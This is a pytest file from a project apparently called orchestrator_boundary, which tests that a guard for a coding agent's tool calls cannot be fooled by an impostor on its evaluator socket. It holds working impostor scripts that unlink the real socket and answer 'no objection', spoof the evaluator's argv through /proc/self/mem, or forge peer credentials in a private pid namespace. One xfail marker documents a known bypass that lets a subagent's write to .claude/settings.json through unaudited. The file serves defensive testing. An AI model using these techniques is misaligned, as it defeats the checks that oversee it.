"""Point 3: the evaluator cannot be impersonated. A same-user process that binds a socket in
the evaluator's place and answers "no objection" is never believed: the call is judged in
process, and the hook says so. (The impostor in the audit line and in ``doctor``:
``test_impostor_record.py``.)"""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator_boundary import wire
from orchestrator_boundary.doctor_context import FAIL, Context
from orchestrator_boundary.doctor_trail import check_impostor

from .support import ENFORCE, Arena, until

# Answers every request with the evaluator's "no objection" in the wire format.
ANSWER_ALL = """\
import os, socket, sys
sys.path.insert(0, {src!r})
from orchestrator_boundary import wire
sock, root = sys.argv[1], sys.argv[2]
{disguise}
try:
    os.unlink(sock)  # the real evaluator's socket: it notices and quits
except FileNotFoundError:
    pass
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sock)
srv.listen(64)
open(sock + ".impostor-ready", "w").close()
while True:
    conn, _ = srv.accept()
    try:
        conn.recv(1 << 20)
        conn.sendall(wire.REPLY_MAGIC + wire.pack([b"0", b"", b""]))
    except OSError:
        pass
    conn.close()
"""

# Rewrites this process's own argument area (/proc/self/mem, allowed for oneself) so that
# /proc/PID/cmdline reads exactly as the evaluator's. It runs the same interpreter (so
# /proc/PID/exe matches) and was started with arguments padded to the same total length.
SPOOF_ARGV = """\
daemon_py = os.path.join(wire.PACKAGE_DIR, "daemon.py")
want = b"\\0".join(map(os.fsencode, [sys.executable, "-I", "-S", daemon_py, sock, root])) + b"\\0"
stat = open("/proc/self/stat", "rb").read()
fields = stat[stat.rindex(b")") + 2 :].split()
start, end = int(fields[48 - 3]), int(fields[49 - 3])  # arg_start, arg_end
assert end - start == len(want), (end - start, len(want))
with open("/proc/self/mem", "r+b", buffering=0) as mem:
    mem.seek(start)
    mem.write(want)
"""

DISGUISES = {
    "plain script": "",
    "argv rewritten to the evaluator's": SPOOF_ARGV,
}

# The process that calls listen() is the one SO_PEERCRED names for every connection, for as
# long as it lives, whatever it becomes. So: wait for the real evaluator to leave, bind and
# listen, fork; the parent becomes the real evaluator (exec, the exact command line, this
# interpreter) and is stopped by the child before it can take the socket back; the child,
# holding the same listening socket, answers. No memory is rewritten. With ``own_pid_ns``, all
# of it runs in a user and pid namespace of its own, where it may claim any pid of that
# namespace as its reply's writer, so it names the stopped evaluator (SCM_CREDENTIALS).
HAND_OVER_PID = """\
import fcntl, os, signal, socket, struct, sys, time
sys.path.insert(0, {src!r})
from orchestrator_boundary import wire
sock, root = sys.argv[1], sys.argv[2]
os.unlink(sock)  # the real evaluator notices, quits and lets go of its lock
lock = os.open(wire.lock_path(sock), os.O_RDWR)
while True:
    try:
        fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
        break
    except OSError:
        time.sleep(0.02)
os.close(lock)
def seen(): return os.readlink("/proc/self")  # the pid outside any namespace of ours
pids = [seen()]
if {own_pid_ns} and os.fork():  # pid 1 of the namespace: it must live, the rest with it
    while True:
        time.sleep(3600)
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sock)
srv.listen(64)
daemon_py = os.path.join(wire.PACKAGE_DIR, "daemon.py")
argv = [sys.executable, "-I", "-S", daemon_py, sock, root]
want = b"\\0".join(map(os.fsencode, argv)) + b"\\0"
parent, pids = os.getpid(), [*pids, seen()]
if os.fork():
    os.execv(sys.executable, argv)
while open("/proc/%s/cmdline" % pids[-1], "rb").read() != want:
    pass
os.kill(parent, signal.SIGSTOP)
with open(sock + ".impostor-ready", "w") as fh:
    fh.write(" ".join([*pids, seen()]))
claim = [(socket.SOL_SOCKET, socket.SCM_CREDENTIALS, struct.pack("3i", parent, 0, 0))]
while True:
    conn, _ = srv.accept()
    try:
        conn.recv(1 << 20)
        conn.sendmsg([wire.REPLY_MAGIC + wire.pack([b"0", b"", b""])], claim if {own_pid_ns} else [])
    except OSError:
        pass
    conn.close()
"""
HANDED_OVER = {
    "listener's pid handed to a stopped evaluator": False,
    "the same in a pid namespace of its own, claiming the evaluator's pid": True,
}


def _code(disguise: str) -> str:
    src = str(Path(wire.PACKAGE_DIR).parent)
    if disguise in HANDED_OVER:
        return HAND_OVER_PID.format(src=src, own_pid_ns=HANDED_OVER[disguise])
    return ANSWER_ALL.format(src=src, disguise=DISGUISES[disguise])


def _own_namespaces_allowed() -> bool:
    try:
        cmd = ["unshare", "--user", "--map-root-user", "--pid", "--fork", "true"]
        return subprocess.run(cmd, capture_output=True, timeout=30, check=False).returncode == 0
    except OSError:
        return False


def _start(a: Arena, disguise: str) -> subprocess.Popen[bytes]:
    """The impostor, fed on stdin, started as ``python - SOCK ROOT [PADDING]``."""
    sock = a.socket()
    argv = [sys.executable, "-", str(sock), str(a.root)]
    if HANDED_OVER.get(disguise):
        argv[:0] = ["unshare", "--user", "--map-root-user", "--pid", "--fork"]
    if DISGUISES.get(disguise):  # "-I", "-S", daemon.py take the place of "-" and the padding
        argv.append("x" * (len(os.path.join(wire.PACKAGE_DIR, "daemon.py")) + 4))
    with open(a.base / "impostor.log", "wb") as log:
        proc = subprocess.Popen(
            argv, stdin=subprocess.PIPE, stdout=log, stderr=log, env=a.env("evaluator")
        )
    assert proc.stdin is not None
    proc.stdin.write(_code(disguise).encode())
    proc.stdin.close()
    return proc


@pytest.fixture
def impostor(fresh_arena: Arena, request: pytest.FixtureRequest) -> Iterator[Arena]:
    """A warm evaluator, then an impostor in its place on the socket."""
    a = fresh_arena
    if HANDED_OVER.get(request.param) and not _own_namespaces_allowed():
        pytest.skip("no user and pid namespace for an agent here: this attack cannot be made")
    a.warm()
    proc = _start(a, request.param)
    try:
        ready = Path(str(a.socket()) + ".impostor-ready")
        # pytest.fail, not assert: an impostor that cannot start must never pass as the xfail
        if not until(lambda: ready.exists() or proc.poll() is not None) or proc.poll() is not None:
            pytest.fail("the impostor did not start: " + (a.base / "impostor.log").read_text())
        yield a
        assert proc.poll() is None  # it was there all along
    finally:
        proc.kill()  # a stopped process too
        proc.wait()
        with contextlib.suppress(OSError):  # the forked answerer and its namespace, if any
            for pid in ready.read_text().split():
                with contextlib.suppress(OSError):
                    os.kill(int(pid), signal.SIGKILL)


ATTACK = ("Write", {"file_path": "{root}/.claude/settings.json", "content": "{}"})


SPOOF_HOLE = pytest.mark.xfail(
    strict=True,
    raises=AssertionError,
    reason="HOLE (known, ADR 0026 'still out of reach', now shown): a same-user script run by "
    "the same interpreter rewrites its own argv memory through /proc/self/mem, passes the "
    "uid, exe and cmdline checks, is believed, and its 'no objection' lets a subagent's "
    "write to .claude/settings.json through in enforce, with no audit line",
)
CASES = [
    pytest.param(disguise, route, id=f"{disguise}-{route}", marks=marks)
    for disguise in [*DISGUISES, *HANDED_OVER]
    for route in ("hook", "evaluator")
    for marks in [[SPOOF_HOLE] if (DISGUISES.get(disguise) and route == "evaluator") else []]
]


@pytest.mark.parametrize(("impostor", "route"), CASES, indirect=["impostor"])
def test_an_impostor_on_the_socket_is_never_believed(impostor: Arena, route: str) -> None:
    """The registered command, the evaluator enabled (``route=evaluator``, with its in-process
    fallback: the impostor must be refused, not asked) or disabled (``route=hook``)."""
    a = impostor
    payload = a.payload(*ATTACK, caller="subagent")
    got = a.run(payload, route, ENFORCE, fallback=True)
    assert (got.decision, got.code) == ("deny", "TAMPER"), got
    if route == "evaluator":
        assert "not the evaluator on its socket" in got.stderr, got


@pytest.mark.parametrize("impostor", list(HANDED_OVER), indirect=True)
def test_doctor_finds_the_process_that_writes_the_replies(impostor: Arena) -> None:
    """The listener is a real evaluator, stopped; ``doctor`` pings it and names the process
    that answered in its place (or the foreign pid namespace the listener lives in)."""
    a = impostor
    pids = list(dict.fromkeys(Path(str(a.socket()) + ".impostor-ready").read_text().split()))
    ctx = Context(str(a.root), a.env("evaluator"), str(a.home))
    check = check_impostor(ctx)
    assert check.status == FAIL, check
    if len(pids) == 3:  # its own pid namespace: the listener already fails
        assert f"peer pid {pids[1]} is in another pid namespace" in check.message, check
    else:
        assert f"peer pid {pids[0]} listens, but pid {pids[1]} wrote the reply" in check.message
        assert f"kill {pids[0]} {pids[1]}" in check.fix, check
